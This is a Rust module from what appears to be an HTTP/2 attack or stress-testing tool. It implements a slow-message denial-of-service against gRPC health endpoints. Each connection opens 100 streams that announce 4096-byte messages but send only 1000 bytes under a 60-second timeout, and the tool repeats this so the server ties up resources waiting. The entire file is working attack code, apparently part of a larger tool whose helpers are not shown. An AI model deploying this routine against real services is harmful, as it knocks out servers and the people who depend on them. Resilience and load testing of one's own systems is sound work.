//! Unfinished messages: calls of gRPC health on as many streams as there may be, each with less of its
//! message than it says. They need no token, and whoever waits for the rest keeps what there is.

use serde_json::Value;

use super::checks::Checks;
use super::frames::RST_STREAM;
use super::{AttackArgs, storm};
use crate::Outcome;

/// How many streams are under way on one connection: as many as servers commonly allow.
const STREAMS: usize = 100;
/// How long a message says that it is, in bytes.
const SAID: u32 = 4096;
/// How much of it there is: all streams' together is less than what a connection may send unread.
const SENT: usize = 1000;

pub(crate) async fn run(args: AttackArgs) -> Outcome<Value> {
    Ok(storm(&args, |attacker| async move {
        let mut message = vec![0];
        message.extend_from_slice(&SAID.to_be_bytes());
        message.resize(message.len() + SENT, b'a');
        let checks = Checks {
            fields: &[("grpc-timeout", "60S")],
            message: &message,
            flags: 0,
            streams: STREAMS,
            // A stream that its client does not end is over, for whatever reason, when the server takes
            // it back.
            is_over: |frame| frame.kind == RST_STREAM,
        };
        while attacker.goes_on() {
            let _ = checks.pour(&attacker).await;
        }
    })
    .await)
}
